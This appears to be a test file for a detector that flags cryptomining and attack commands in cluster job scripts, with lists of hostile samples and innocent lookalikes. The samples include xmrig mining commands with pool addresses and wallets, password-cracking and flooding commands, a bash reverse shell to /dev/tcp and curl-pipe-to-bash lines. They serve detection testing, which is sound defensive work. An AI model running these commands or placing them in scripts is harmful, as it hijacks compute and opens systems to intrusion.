@@ -1,0 +1,151 @@
+"""Signs of misuse: renamed programs are told by their arguments, and innocent scripts are left alone."""
+
+import gzip
+import json
+import random
+import time
+from pathlib import Path
+
+import pytest
+
+from tocsin.workload.signs import signs
+from tocsin.workload.unpack import unpacked
+
+MONERO = "44vjAVKLTFc7jxTv5ij1ifCv2YCFe3bpTgcRyR6uKg84iyFhrCesstmWNUppRCrxCsMorTP8QKxMrD3QfgQ41zsqMgPaXY5"
+
+MINING = [
+    "./gcc -o stratum+tcp://any.example:3333 -u me -p x",
+    "./php-fpm -o service.example.org:4444 -u ${WALLET}.${hostname} -p x -k --coin monero -a rx/0",
+    "P=eu.example.io:9999\nW=whoever\n./python3 --url $P --user $W --pass x",
+    f"OWNER={MONERO}\n./a.out --for $OWNER",
+    "echo 1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2 > me",  # a true Bitcoin address by its checksum
+    "echo bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq > me",
+    "./t -a kawpow -o $POOL -u $WALLET.rig",
+    "./x --donate-level 1 --cpu-max-threads-hint 75",
+    'cat > c.json <<E\n{"algo": "rx/0", "donate-level": 0}\nE\n',
+    "wget https://github.com/xmrig/xmrig/releases/download/v6.16.4/xmrig-6.16.4-linux-x64.tar.gz",
+    "srun ./xmrig -c config.json",
+    "export POOL=pool.supportxmr.com:443\n./run $POOL",
+    "A=xm\nB=rig\n./$A$B -c c.json",
+]
+CYBER = [
+    "hashcat -m 1000 -a 0 hashes.txt words.txt",
+    "./tool -m 22000 -a 3 handshake.22000 ?d?d?d?d?d?d?d?d",
+    "./sim -a 0 -m 1800 shadow.hash /data/wordlist.txt",
+    "john --wordlist=w.txt --format=raw-md5 hashes",
+    "hydra -l root -P pass.txt ssh://10.0.0.1",
+    "nmap -sS -p 1-65535 10.0.0.0/8",
+    "./prog 10.1.0.0/16 --rate 100000 -p80,443",
+    "sudo hping3 -S --flood -p 80 example.org",
+    "python3 slowloris.py example.org",
+    "cat /usr/share/wordlists/rockyou.txt | ./job",
+    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+    "nvcc main.cu -o cracker\n./cracker hash.txt",
+]
+INNOCENT = [
+    "mpiexec.hydra -n 4 ./a.out -p 3 -l 2",
+    "python train.py hydra.run.dir=out -m model=big -a 1",
+    "srun -n 4 ./lammps -in in.crack -var P 1",
+    "rsync -a -o -u data/ host.example.org:/scratch",
+    "jsrun -n 2 -a 1 -c 4 ./app -m 100",
+    "curl -o data.tar.gz https://example.org:8443/data.tar.gz",
+    "sha=1f0e3dad99908345f7439f8ffabdffc4a1b2c3d4",
+    "x=0x00112233445566778899aabbccddeeff00112233",
+    "git clone https://github.com/pool/miner-of-text && python -m mining_pool",
+    "gmx mdrun -s topol.tpr -o traj.trr -c out.gro",
+    "nc_file=out.nc; ncdump -h $nc_file",
+    "# xmrig -o stratum+tcp://pool:3333",
+]
+
+
+@pytest.mark.parametrize(
+    ("operation", "script"), [("cryptomining", s) for s in MINING] + [("cyber", s) for s in CYBER]
+)
+def test_misuse_is_told_by_what_it_says(operation: str, script: str) -> None:
+    assert operation in {sign.operation for sign in signs(script)}
+
+
+@pytest.mark.parametrize("script", INNOCENT)
+def test_an_innocent_line_is_no_sign(script: str) -> None:
+    assert [sign for sign in signs(script) if sign.operation] == []
+
+
+def test_what_is_fetched_and_run_is_told_and_proves_nothing() -> None:
+    for line in (
+        "curl -fsSL https://x.example/i.sh | bash",
+        "bash <(curl -s http://x/y)",
+        'sh -c "$(wget -qO- http://x)"',
+    ):
+        [sign] = signs("cd /tmp\n" + line)
+        assert (sign.line, sign.operation) == (2, None)
+        assert sign.why.startswith("fetched and run at once: ")
+
+
+def test_the_reason_shows_what_was_found() -> None:
+    [sign] = signs("\n\nnohup ./gcc -o stratum+tcp://any.example:3333 &\n")
+    assert sign == (3, "cryptomining", "a mining pool: stratum+tcp://any.example:3333 &")
+
+
+def test_a_wrong_checksum_is_no_wallet() -> None:
+    assert signs("echo 1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN3") == []
+
+
+def test_none_of_the_public_innocent_scripts_has_a_sign(data: Path) -> None:
+    """A part of the 20,230; all of them were looked at when the rules were written, and none has one."""
+    with gzip.open(data / "scripts" / "jobspec.jsonl.gz", "rt") as file:
+        texts = [json.loads(line)["text"] for number, line in enumerate(file) if number % 10 == 0]
+    found = [sign for text in texts for sign in signs(text) if sign.operation]
+    assert len(found) <= 1, found
+
+
+def mutated(text: str, chance: random.Random) -> str:
+    """The text with parts cut out, doubled, exchanged for others or for noise."""
+    for _ in range(chance.randrange(1, 6)):
+        at, to = sorted(chance.randrange(len(text) + 1) for _ in range(2))
+        kind = chance.randrange(5)
+        if kind == 0:
+            text = text[:at] + text[to:]
+        elif kind == 1:
+            text = text[:to] + text[at:to] + text[to:]
+        elif kind == 2:
+            text = text[:at] + "".join(chr(chance.randrange(0x2FF)) for _ in range(20)) + text[at:]
+        elif kind == 3:
+            text = text.replace("\n", chance.choice(["", "\r\n", "\0", "\\\n"]), chance.randrange(9))
+        else:
+            text = (
+                text[:at]
+                + chance.choice(["$(", "`", '"', "'", "\\", "<<EOF\n", "\udcff", "=" * 50])
+                + text[at:]
+            )
+    return text[:50_000]
+
+
+def test_mutated_scripts_are_taken(data: Path) -> None:
+    """Quick: 500; 10,000 were run by hand."""
+    chance = random.Random(5)
+    with gzip.open(data / "scripts" / "misuse.jsonl.gz", "rt") as file:
+        texts = [json.loads(line)["text"] for line in file]
+    for _ in range(500):
+        text = mutated(chance.choice(texts), chance)
+        lines = text.count("\n") + 1
+        for hidden in unpacked(text):
+            signs(hidden.text)
+        assert all(1 <= sign.line <= lines for sign in signs(text))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "a" * 4_000_000,
+        "-o " * 1_000_000,
+        ";" * 1_000_000,
+        "A=aaaaaaaa\n" + "A=$A$A\n" * 50_000,
+        "\0" * 1_000_000,
+    ],
+    ids=["one word", "options", "semicolons", "bomb", "NUL"],
+)
+def test_a_hostile_text_costs_little(text: str) -> None:
+    began = time.process_time()
+    signs(text)
+    unpacked(text)
+    assert time.process_time() - began < 10
